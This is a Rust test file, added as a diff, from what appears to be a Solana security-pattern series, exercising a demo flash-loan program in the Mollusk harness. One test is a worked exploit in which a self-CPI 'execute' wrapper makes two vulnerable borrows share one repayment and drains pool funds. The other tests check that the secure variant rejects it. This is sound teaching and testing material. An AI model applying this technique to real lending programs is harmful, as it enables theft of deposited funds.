@@ -0,0 +1,270 @@
+/// # Pattern 214: Self-CPI Executor — Mollusk Exploit Tests
+///
+/// The pool lends its 100 SOL for a 0.09% fee. Mollusk runs one instruction
+/// at a time, so each step sets the instructions sysvar by hand to describe
+/// the transaction it's part of. `execute` calls back into the program
+/// under test, so the program's own account is on the ledger.
+///
+/// - Test 1: EXPLOIT — execute([flash_borrow_vulnerable(50),
+///   flash_borrow_vulnerable(50)]) followed by one flash_repay: both
+///   borrows pay out, one is repaid.
+/// - Test 2: SECURE — flash_borrow_secure called through execute fails: it
+///   isn't at the top of the stack.
+/// - Test 3: SANITY — called directly, flash_borrow_secure needs the repay
+///   right after it, so two top-level borrows can't share one. A borrow
+///   followed by its repay goes through.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    sysvar,
+};
+use test_harness::{
+    account_discriminator, executable_account, instructions_sysvar, ix_discriminator,
+    system_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("7xnsMTGr8A9HJkGMfrQGSLWCNCbaWv95C2ZWEXiytjJe");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+const LIQUIDITY: u64 = 100 * SOL;
+const FEE_BPS: u16 = 9;
+/// Each loan in the tests.
+const LOAN: u64 = 50 * SOL;
+const FEE: u64 = LOAN * FEE_BPS as u64 / 10_000;
+const OWED: u64 = LOAN + FEE;
+
+// Error codes
+const MISSING_REPAYMENT: u32 = 6000;
+const CPI_BORROW: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account: [8 disc][2 fee_bps][1 bump]
+fn serialize_pool(bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(11);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(&FEE_BPS.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    pool: Pubkey,
+    attacker: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let attacker = Pubkey::new_unique();
+        let (pool, bump) = Pubkey::find_program_address(&[b"pool"], &PROGRAM_ID);
+        let data = serialize_pool(bump);
+        let mut pool_account = AccountSharedData::new(RENT + LIQUIDITY, data.len(), &PROGRAM_ID);
+        pool_account.set_data_from_slice(&data);
+
+        let ledger = vec![
+            (pool, pool_account),
+            (attacker, system_account(WALLET)),
+            (sysvar::instructions::ID, instructions_sysvar(&[], 0)),
+            (
+                PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            mollusk: Mollusk::new(&PROGRAM_ID, "self_cpi_executor"),
+            pool,
+            attacker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// flash_borrow_vulnerable / flash_borrow_secure of LOAN by the attacker.
+    fn borrow(&self, name: &str) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&LOAN.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(sysvar::instructions::ID, false),
+            ],
+        )
+    }
+
+    /// flash_repay of OWED by the attacker.
+    fn repay(&self) -> Instruction {
+        let mut data = ix_discriminator("flash_repay").to_vec();
+        data.extend_from_slice(&OWED.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// execute, signed by the attacker, making each of `calls`. Data:
+    /// [8 disc][4 call count] then per call [1 account count][4 data len][data],
+    /// with each call's program and accounts appended as remaining accounts.
+    fn execute(&self, calls: &[Instruction]) -> Instruction {
+        let mut data = ix_discriminator("execute").to_vec();
+        data.extend_from_slice(&(calls.len() as u32).to_le_bytes());
+        // Writable: the borrows below take the attacker's key as writable,
+        // and a CPI can't ask for more than the caller was given.
+        let mut accounts = vec![AccountMeta::new(self.attacker, true)];
+        for call in calls {
+            data.push(call.accounts.len() as u8);
+            data.extend_from_slice(&(call.data.len() as u32).to_le_bytes());
+            data.extend_from_slice(&call.data);
+            accounts.push(AccountMeta::new_readonly(call.program_id, false));
+            accounts.extend_from_slice(&call.accounts);
+        }
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    /// Describe the transaction `ixs` in the instructions sysvar, with
+    /// `ixs[current]` executing.
+    fn set_transaction(&mut self, ixs: &[Instruction], current: u16) {
+        self.ledger
+            .set(sysvar::instructions::ID, instructions_sysvar(ixs, current));
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_two_borrows_one_repay_through_execute_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The transaction
+    //   [execute([flash_borrow_vulnerable(50 SOL), flash_borrow_vulnerable(50 SOL)]),
+    //    flash_repay(50.045 SOL)]
+    //
+    // Expected: execute SUCCEEDS. Each borrow sees `execute`, this
+    //           program's, as the current instruction and the repay right
+    //           after it, so both pay out: the attacker takes 100 SOL. The
+    //           repay returns 50.045 SOL, and the attacker keeps 49.955 SOL
+    //           of the pool's liquidity.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, attacker) = (s.pool, s.attacker);
+
+    let borrow = s.borrow("flash_borrow_vulnerable");
+    let execute = s.execute(&[borrow.clone(), borrow]);
+    let repay = s.repay();
+    s.set_transaction(&[execute.clone(), repay.clone()], 0);
+    s.ledger.step(
+        &s.mollusk,
+        &execute,
+        &[
+            Check::success(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY - 2 * LOAN)
+                .build(),
+            Check::account(&attacker)
+                .lamports(WALLET + 2 * LOAN)
+                .build(),
+        ],
+    );
+
+    s.set_transaction(&[execute, repay.clone()], 1);
+    s.ledger.step(
+        &s.mollusk,
+        &repay,
+        &[
+            Check::success(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY - LOAN + FEE)
+                .build(),
+            Check::account(&attacker)
+                .lamports(WALLET + LOAN - FEE)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_borrow_through_execute() {
+    // -----------------------------------------------------------------------
+    // SECURE: The transaction
+    //   [execute([flash_borrow_secure(50 SOL)]), flash_repay(50.045 SOL)]
+    //
+    // Expected: execute FAILS with CpiBorrow (6001). The borrow runs one
+    //           level below the transaction, whichever program called it.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let execute = s.execute(&[s.borrow("flash_borrow_secure")]);
+    let repay = s.repay();
+    s.set_transaction(&[execute.clone(), repay], 0);
+    s.ledger.step(&s.mollusk, &execute, &[Check::err(ProgramError::Custom(CPI_BORROW))]);
+}
+
+#[test]
+fn sanity_top_level_borrow_needs_its_own_repay_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. [flash_borrow_secure, flash_borrow_secure, flash_repay]: the
+    //      first borrow
+    //   2. [flash_borrow_secure, flash_repay]: the borrow, then the repay
+    //
+    // Expected: step 1 FAILS with MissingRepayment (6000): at the top level
+    //           the current index is the borrow's own, and the instruction
+    //           after it is another borrow. Step 2 SUCCEEDS, and the pool
+    //           ends 0.045 SOL up.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, attacker) = (s.pool, s.attacker);
+
+    let borrow = s.borrow("flash_borrow_secure");
+    let repay = s.repay();
+    s.set_transaction(&[borrow.clone(), borrow.clone(), repay.clone()], 0);
+    s.ledger.step(
+        &s.mollusk,
+        &borrow,
+        &[Check::err(ProgramError::Custom(MISSING_REPAYMENT))],
+    );
+
+    s.set_transaction(&[borrow.clone(), repay.clone()], 0);
+    s.ledger.step(
+        &s.mollusk,
+        &borrow,
+        &[
+            Check::success(),
+            Check::account(&attacker).lamports(WALLET + LOAN).build(),
+        ],
+    );
+
+    s.set_transaction(&[borrow, repay.clone()], 1);
+    s.ledger.step(
+        &s.mollusk,
+        &repay,
+        &[
+            Check::success(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY + FEE)
+                .build(),
+            Check::account(&attacker).lamports(WALLET - FEE).build(),
+        ],
+    );
+}